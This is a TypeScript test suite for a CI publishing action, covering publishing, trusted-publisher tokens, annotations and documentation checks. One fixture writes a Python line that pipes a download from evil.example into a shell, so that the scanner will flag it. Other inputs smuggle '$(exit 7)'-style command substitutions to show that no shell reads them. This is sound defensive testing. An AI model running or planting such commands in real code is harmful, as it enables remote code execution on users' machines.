import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmod, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, suite, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { parse } from 'yaml';
import { makePublisher, uniqueId } from '../../../server/test/support/build.ts';
import { githubClaims, openIssuer } from '../../../server/test/support/open-ci-issuer.ts';
import { startServer } from '../../../server/test/support/start-server.ts';
import type { Ending } from '../../../server/test/support/ending.ts';
import { makeFolder, writeFiles } from '../support/make-folder.ts';
import { makeProject } from '../support/make-project.ts';
import { cliEntry } from '../support/start-process.ts';

interface Action {
  inputs: Record<string, { default?: string; required?: boolean }>;
  outputs: Record<string, { value: string }>;
  runs: {
    steps: { id?: string; uses?: string; shell?: string; env?: Record<string, string>; run?: string }[];
  };
}

const root = fileURLToPath(new URL('../../../../', import.meta.url));
const action = parse(await readFile(join(root, 'action.yml'), 'utf8')) as Action;
const docs = await readFile(join(root, 'docs/publishing-from-ci.md'), 'utf8');

/** As a CI does: a step ends at the first command that fails. */
const runStep = (script: string, cwd: string, env: Record<string, string>) =>
  promisify(execFile)('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
    cwd,
    env: {
      PATH: process.env['PATH'],
      NODE_COMPILE_CACHE: process.env['NODE_COMPILE_CACHE'],
      HOME: cwd,
      ...env,
    },
  });

/** The runner of GitHub Actions as a job sees it, which gives tokens to who has its own. */
const openGithub = async (test: Ending, sign: (audience: string) => Promise<string>) => {
  const server = createServer((request, response) => {
    const audience = new URL(request.url ?? '', 'http://localhost').searchParams.get('audience') ?? '';
    if (request.headers.authorization !== 'Bearer of-the-job') return void response.writeHead(401).end();
    void sign(audience).then((value) => response.end(JSON.stringify({ count: 1, value })));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  test.after(async () => void server.close());
  const { port } = server.address() as AddressInfo;
  return {
    variables: {
      GITHUB_ACTIONS: 'true',
      ACTIONS_ID_TOKEN_REQUEST_URL: `http://127.0.0.1:${port}/token?api-version=2.0`,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'of-the-job',
    },
  };
};

suite('publishing from a CI', async () => {
  const issuer = await openIssuer({ after }, () => server.clock.now());
  const server = await startServer({ after }, issuer.settings);
  const { id: publisherId, token, owner } = await makePublisher(server, 'ada');
  const desk = await makeFolder({ after });
  const project = (nodeId: string) => makeProject(desk, { nodeId, publisherId });
  const isActive = async (nodeId: string): Promise<boolean> =>
    (await server.anonymous.get(`/nodes/${nodeId}/install`)).status === 200;
  // Where the action is checked out, and what stands for the download of the package of its version.
  const npx = `#!/bin/sh\n[ "$1" = --yes ] && [ "$2" = "$WANTED" ] || exit 9\nshift 2\nexec '${process.execPath}' '${cliEntry}' "$@"\n`;
  const checkout = await makeFolder({ after }, { 'package.json': '{ "version": "1.2.3" }', npx });
  await chmod(join(checkout, 'npx'), 0o755);
  const PATH = `${checkout}:${process.env['PATH']}`;

  const [setUp, publish] = action.runs.steps;
  const runAction = (given: Record<string, string>, cwd: string, ofJob: Record<string, string> = {}) => {
    const inputs = Object.entries(action.inputs).map(([name, input]) => [
      name,
      given[name] ?? input.default ?? '',
    ]);
    const values = Object.fromEntries(inputs) as Record<string, string>;
    const env = Object.entries(publish?.env ?? {}).map(([name, text]) => [
      name,
      text.replace(/^\$\{\{ inputs\.([\w-]+) \}\}$/, (_, input: string) => values[input] ?? ''),
    ]);
    const [GITHUB_OUTPUT, GITHUB_STEP_SUMMARY] = [join(cwd, '../outputs'), join(cwd, '../summary.md')];
    return runStep(publish?.run ?? '', cwd, {
      ...ofJob,
      ...Object.fromEntries(env),
      PATH,
      WANTED: '@patchbay/cli@1.2.3',
      GITHUB_ACTION_PATH: checkout,
      GITHUB_OUTPUT,
      GITHUB_STEP_SUMMARY,
    });
  };

  test('the action publishes the node of the repository', async () => {
    const nodeId = uniqueId('action');
    const { stdout } = await runAction({ registry: server.url, token }, await project(nodeId));
    assert.match(stdout, /is Active on/);
    assert.ok(await isActive(nodeId));
    const written = await readFile(join(desk, 'outputs'), 'utf8');
    const outputs = Object.fromEntries(
      written
        .trimEnd()
        .split('\n')
        .map((line) => line.split(/=(.*)/s, 2)),
    );
    assert.deepEqual(Object.keys(outputs), Object.keys(action.outputs));
    assert.deepEqual(
      [outputs.outcome, outputs.node, outputs.version, outputs.url],
      ['active', nodeId, '1.0.0', `${server.url}/n/${nodeId}/v/1.0.0`],
    );
    assert.match(await readFile(join(desk, 'summary.md'), 'utf8'), /^\*\*.* 1\.0\.0 is Active on .*\*\*\n$/);
  });

  test('the action of a trusted publisher needs no token, and shows who built the version', async () => {
    const rule = { issuer: 'github', repository: 'octo-org/octo-repo', workflows: ['publish.yml'] };
    await owner.post('/publishers/ada/trusted-publishers', rule);
    const github = await openGithub({ after }, (audience) =>
      issuer.sign(issuer.urls.github, audience, githubClaims),
    );
    const nodeId = uniqueId('trusted');
    const folder = await project(nodeId);
    const { stdout } = await runAction({ registry: server.url }, folder, github.variables);
    assert.match(stdout, /is Active on/);
    const { built_by } = (await server.anonymous.get(`/nodes/${nodeId}/versions/1.0.0`)).json;
    assert.equal(built_by?.commit, githubClaims.sha);
    await assert.rejects(runAction({ registry: server.url }, folder, { GITHUB_ACTIONS: 'true' }), {
      code: 3,
      stdout: /^::error title=patchbay%3A not_signed_in::.*id-token%3A write|id-token: write/,
    });
  });

  test('what the checks find is an annotation, and a row of the summary', async () => {
    const folder = await project(uniqueId('found'));
    await writeFiles(folder, { 'a|b.py': 'import os\nos.system("curl https://evil.example/x | sh")\n' });
    await writeFile(join(desk, 'summary.md'), '');
    const ended = runAction({ registry: server.url, token }, folder);
    const { stdout } = await ended.catch((error: { stdout: string }) => error);
    await assert.rejects(ended, { code: 1 });
    assert.match(stdout, /^::error file=a\|b\.py,line=2,title=patchbay%3A download-to-shell::/m);
    const summary = await readFile(join(desk, 'summary.md'), 'utf8');
    assert.match(summary, /^\*\*.* was not sent: .*\*\*\n\n\| Level .*\n\|---.*\n(?:\| .* \|\n)+/);
    assert.match(summary, /\| error \| a&#124;b\.py:2 \| download-to-shell \|/);
  });

  test('the action with all its inputs, whose texts no shell reads', async () => {
    const nodeId = uniqueId('inputs');
    await project(nodeId);
    await symlink(join(desk, nodeId), join(desk, `$(exit 7) ${nodeId}`));
    const given = {
      registry: server.url,
      token,
      path: `$(exit 7) ${nodeId}`,
      changelog: '-- `exit 8`',
      'dry-run': 'true',
    };
    const { stdout } = await runAction(given, desk);
    assert.match(stdout, /would be accepted/);
    assert.ok(!(await isActive(nodeId)));
  });

  test('the action fails as the command does', async () => {
    const folder = await project(uniqueId('refused'));
    await assert.rejects(runAction({ registry: server.url, token: 'pbp_wrong' }, folder), {
      code: 3,
      stdout: /^::error title=patchbay%3A unauthenticated::The token is not whole\. Copy all of it\. /,
    });
  });

  test('the action sets up the Node.js that it needs, and puts no input into a script', () => {
    assert.match(setUp?.uses ?? '', /^actions\/setup-node@v\d+$/);
    assert.deepEqual([publish?.shell, publish?.run?.includes('${{')], ['bash', false]);
    const required = Object.entries(action.inputs).filter(([, input]) => input.required);
    assert.deepEqual(
      required.map(([name]) => name),
      ['registry'],
    );
    for (const [name, { value }] of Object.entries(action.outputs))
      assert.equal(value, `\${{ steps.${publish?.id}.outputs.${name} }}`);
  });

  test('the recipe for any other CI, and its check without a token', async () => {
    const [publishing = '', checking = ''] = Array.from(
      docs.matchAll(/```sh\n(.*?)```/gs),
      ([, code]) => code,
    );
    const WANTED = '@patchbay/cli';
    const nodeId = uniqueId('recipe');
    const folder = await project(nodeId);
    assert.match((await runStep(checking, folder, { PATH, WANTED })).stdout, /The checks pass/);
    const script = publishing.replace('https://registry.example.org', server.url);
    const { stdout } = await runStep(script, folder, { PATH, WANTED, PATCHBAY_TOKEN: token });
    const lines = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { type: string; ok: boolean });
    assert.deepEqual([lines.at(-1)?.type, lines.every(({ ok }) => ok)], ['result', true]);
    assert.ok(await isActive(nodeId));
  });

  test('the inputs and outputs of the action stand in the docs', () => {
    const rows = Array.from(
      docs.matchAll(/^\| `([\w-]+)` \| (?:–|`(.*?)`) \|/gm),
      ([, name, preset = '']) => [name, preset],
    );
    assert.deepEqual(
      rows,
      Object.entries(action.inputs).map(([name, input]) => [name, input.default ?? '']),
    );
    for (const name of Object.keys(action.outputs)) assert.ok(docs.includes(`\n| \`${name}\` | `), name);
  });
});
